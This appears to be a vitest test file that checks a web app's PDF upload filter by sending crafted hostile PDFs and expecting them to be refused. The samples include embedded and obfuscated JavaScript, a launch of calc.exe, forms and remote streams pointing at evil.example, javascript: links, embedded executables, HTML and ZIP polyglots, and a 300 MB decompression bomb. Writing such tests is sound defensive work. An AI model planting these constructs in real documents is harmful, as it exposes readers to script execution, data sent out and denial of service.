import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { aPerson, type Person } from '#features/account/server/seed.ts';
import { type TestApp, testApp } from '#test/harness.ts';
import { packed, pdfWith, streamOf } from '#test/hostile-bytes.ts';
import { expectRefusal } from '#test/refused-file.ts';
import { sendFile, UPLOADS } from '#test/send-file.ts';
import { aFileKind, aPdf } from './seed.ts';

let t: TestApp;
let anna: Person;
beforeAll(async () => {
  t = await testApp({ settings: { LIMITS_FACTOR: '100000' }, files: { 'test-document': aFileKind() } });
  anna = await aPerson(t.db);
});
afterAll(() => t.close());

async function refused(name: string, bytes: Buffer, codes: string | string[]): Promise<void> {
  await expectRefusal(t, anna, { name, bytes, codes });
}
const contentOf = async (id: string) =>
  (await t.app.inject({ url: `${UPLOADS}/${id}`, headers: await t.headersOf(anna) })).rawPayload;

describe('is refused', () => {
  test.each<[string, Buffer, string]>([
    ['a script', pdfWith('4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'), 'file_unsafe'],
    ['a script spelt in numbers', pdfWith('4 0 obj\n<< /S /J#61vaScript /#4aS (x) >>\nendobj\n'), 'file_unsafe'],
    ['a script in a packed object', pdfWith(packed('<< /S /JavaScript /JS (x) >>')), 'file_unsafe'],
    [
      'a script in an object that says of itself nothing',
      pdfWith(streamOf('/N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from('7 0 << /JS (x) >>')))),
      'file_unsafe',
    ],
    [
      'objects packed in a way that we do not unpack',
      pdfWith(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('x'))),
      'file_unsafe',
    ],
    ['a launch', pdfWith('4 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj\n'), 'file_unsafe'],
    ['something that runs when a page opens', pdfWith('4 0 obj\n<< /AA << /O 5 0 R >> >>\nendobj\n'), 'file_unsafe'],
    ['a form that sends', pdfWith('4 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'), 'file_unsafe'],
    ['a link that runs', pdfWith('4 0 obj\n<< /S /URI /URI (javascript:alert\\(1\\)) >>\nendobj\n'), 'file_unsafe'],
    ['an embedded file', pdfWith(streamOf('/Type /EmbeddedFile', Buffer.from('MZ'))), 'file_unsafe'],
    ['content that lies elsewhere', pdfWith(streamOf('/F (https://evil.example)', Buffer.from('x'))), 'file_unsafe'],
    ['one key twice', pdfWith('4 0 obj\n<< /A 1 /A 2 >>\nendobj\n'), 'file_unsafe'],
    ['a page hidden in a comment', pdfWith('%<html><script>alert(1)</script>\n4 0 obj\n1\nendobj\n'), 'file_unsafe'],
    ['a page in front', Buffer.concat([Buffer.from('<html>'), pdfWith('4 0 obj\n1\nendobj\n')]), 'file_type'],
    [
      'an archive behind',
      Buffer.concat([pdfWith('4 0 obj\n1\nendobj\n'), Buffer.from('PK\u0003\u0004')]),
      'file_unreadable',
    ],
    [
      'a stream that is shorter than it says',
      pdfWith('4 0 obj\n<< /Length 90 >>\nstream\nshort\nendstream\nendobj\n'),
      'file_unreadable',
    ],
    [
      'a stream whose length another object gets wrong',
      pdfWith('4 0 obj\n<< /Length 9 0 R >>\nstream\nshort\nendstream\nendobj\n9 0 obj\n2\nendobj\n'),
      'file_unsafe',
    ],
    ['lists without end', pdfWith(`4 0 obj\n${'['.repeat(100_000)}\nendobj\n`), 'file_unreadable'],
    [
      'packed objects of 300 MB',
      pdfWith(
        streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024))),
      ),
      'file_unreadable',
    ],
    ['no end', pdfWith('4 0 obj\n1\nendobj\n').subarray(0, 120), 'file_unreadable'],
    ['no pages', Buffer.from('%PDF-1.7\n1 0 obj\n1\nendobj\nstartxref\n9\n%%EOF\n'), 'file_unreadable'],
  ])('a PDF with %s', (_, bytes, code) => refused('letter.pdf', bytes, code));

  test('a PDF that is locked', async () =>
    refused('letter.pdf', await aPdf(undefined, { userPassword: 'secret', ownerPassword: 'secret' }), 'file_unsafe'));
  test('a PDF with a file in it', async () =>
    refused(
      'letter.pdf',
      await aPdf((document) => document.file(Buffer.from('MZ'), { name: 'a.exe' })),
      'file_unsafe',
    ));
});

test('a PDF of pages and links stays as it is', async () => {
  const letter = await aPdf((document) => document.text('Our page', { link: 'https://center.example' }));
  const { body } = await sendFile(t, anna, { name: 'letter.pdf', bytes: letter });
  expect(body.data).toMatchObject({ name: 'letter.pdf', type: 'application/pdf' });
  expect((await contentOf(body.data?._id ?? '')).equals(letter)).toBe(true);
});
